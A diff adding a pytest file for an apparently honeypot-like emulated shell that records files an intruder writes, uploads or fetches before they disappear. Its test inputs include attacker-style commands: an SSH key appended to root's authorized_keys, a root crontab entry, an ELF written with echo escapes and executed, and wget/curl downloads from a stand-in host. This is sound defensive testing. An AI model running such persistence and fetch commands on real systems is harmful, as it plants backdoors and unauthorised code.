@@ -1,0 +1,102 @@
+"""What is written in a session is kept: byte for byte, once, and before it is gone."""
+
+from __future__ import annotations
+
+import base64
+import random
+
+import pytest
+
+from eudaemon.world.outside import HEAD_BYTES_MAX
+from world.shell.told import Told
+
+SIZES = (1, 4095, 4096, 4097, 65_536)
+DATA = random.Random(1).randbytes(1_500_000)
+
+
+def escaped(data: bytes, form: str) -> bytes:
+    return b"".join(form.encode() % byte for byte in data)
+
+
+@pytest.mark.parametrize("size", SIZES)
+@pytest.mark.parametrize("width", [1, 127, 128, 1024])
+@pytest.mark.parametrize("command", ["echo -ne '%s'", "printf '%s'", "/bin/busybox echo -en '%s'"])
+def test_in_band(size: int, width: int, command: str) -> None:
+    data = DATA[: min(size, width * 600)]
+    form = "\\%03o" if command.startswith("printf") else "\\x%02x"
+    told = Told()
+    for at in range(0, len(data), width):
+        line = command.encode() % escaped(data[at : at + width], form)
+        assert told.run(line + (b" >> /tmp/f" if at else b" > /tmp/f")) == ""
+    assert [kept.data for kept in told.finish()] == [data]
+
+
+def test_a_big_one() -> None:
+    told = Told()
+    for at in range(0, len(DATA), 3001):
+        told.run(b"echo -ne '%s' >> /tmp/f" % escaped(DATA[at : at + 3001], "\\x%02x"))
+    assert [kept.data for kept in told.finish()] == [DATA]
+
+
+@pytest.mark.parametrize("size", SIZES)
+def test_by_base64_in_a_document(size: int) -> None:
+    told = Told()
+    told.run("base64 -d > /tmp/f <<EOF")
+    for line in base64.encodebytes(DATA[: min(size, 40_000)]).splitlines():
+        assert told.run(line) == ""
+    assert told.run("EOF") == ""
+    assert [kept.data for kept in told.finish()] == [DATA[: min(size, 40_000)]]
+
+
+@pytest.mark.parametrize(
+    ("line", "kept"),
+    [
+        ("echo a > f; rm f", [("/tmp/f", b"a\n", "upload")]),
+        ("echo a > f; > f", [("/tmp/f", b"a\n", "upload")]),
+        ("echo a > f; echo b > f", [("/tmp/f", b"a\n", "upload")]),
+        ("echo a > f; mv f g; cp g h; rm g", [("/tmp/g", b"a\n", "upload")]),
+        ("echo a > f; echo x > g; mv g f", [("/tmp/f", b"a\n", "upload")]),
+        ("mkdir d; echo a > d/f; rm -rf d", [("/tmp/d/f", b"a\n", "upload")]),
+        ("echo echo hi > f; chmod +x f; ./f", [("/tmp/f", b"echo hi\n", "script")]),
+        ("echo echo hi > f; sh f; . ./f; rm f", [("/tmp/f", b"echo hi\n", "script")]),
+        ("echo -ne '\\x7fELF\\x01' > f; chmod 777 f; ./f; ./f; rm f", [("/tmp/f", b"\x7fELF\x01", "upload")]),
+        ("cp /bin/busybox b; ./b; rm b; cat /bin/echo > c; > c", []),
+        ("> f; rm f; touch g; rm g", []),
+        ("echo a | tee f | cat > g; rm f g", [("/tmp/f", b"a\n", "upload")]),
+        (
+            "echo a > f; dd if=/dev/zero of=f bs=1 count=1; rm f",
+            [("/tmp/f", b"a\n", "upload"), ("/tmp/f", b"\0", "upload")],
+        ),
+    ],
+)
+def test_it_is_kept_before_it_is_gone(line: str, kept: list[tuple[str, bytes, str]]) -> None:
+    told = Told()
+    told.run("cd /tmp")
+    told.run(line)
+    assert [(one.path, one.data, one.origin) for one in told.kept] == kept
+
+
+def test_the_rest_is_kept_at_the_end_once() -> None:
+    told = Told()
+    told.run("echo a > /tmp/a; echo a > /tmp/b; echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; mkdir /root/.ssh")
+    told.run("echo ssh-rsa AAAA >> /root/.ssh/authorized_keys; echo '* * * * * x' | crontab -")
+    assert told.kept == []
+    assert [(one.path, one.data) for one in told.finish()] == [
+        ("/tmp/a", b"a\n"),
+        ("/root/.ssh/authorized_keys", b"ssh-rsa AAAA\n"),
+        ("/var/spool/cron/crontabs/root", b"* * * * * x\n"),
+    ]
+
+
+def test_what_was_fetched_is_not_kept_again() -> None:
+    small, big = DATA[:5000], DATA
+    told = Told(outside={"http://192.0.2.9/s": small, "http://192.0.2.9/b": big})
+    told.run(
+        "cd /tmp; wget -q http://192.0.2.9/s; wget -q -O - http://192.0.2.9/s > t; curl http://192.0.2.9/s | cat > u"
+    )
+    told.run("wget -q http://192.0.2.9/b; wget -q -O - http://192.0.2.9/b > c; cp b d")
+    assert told.run("ls -l s t u b c d | awk '{print $5}'").split() == ["5000"] * 3 + ["1500000"] * 3
+    assert len(big) > HEAD_BYTES_MAX
+    assert told.finish() == []
+    told.run("echo more >> s")
+    assert [one.data for one in told.finish()] == [small + b"more\n"]
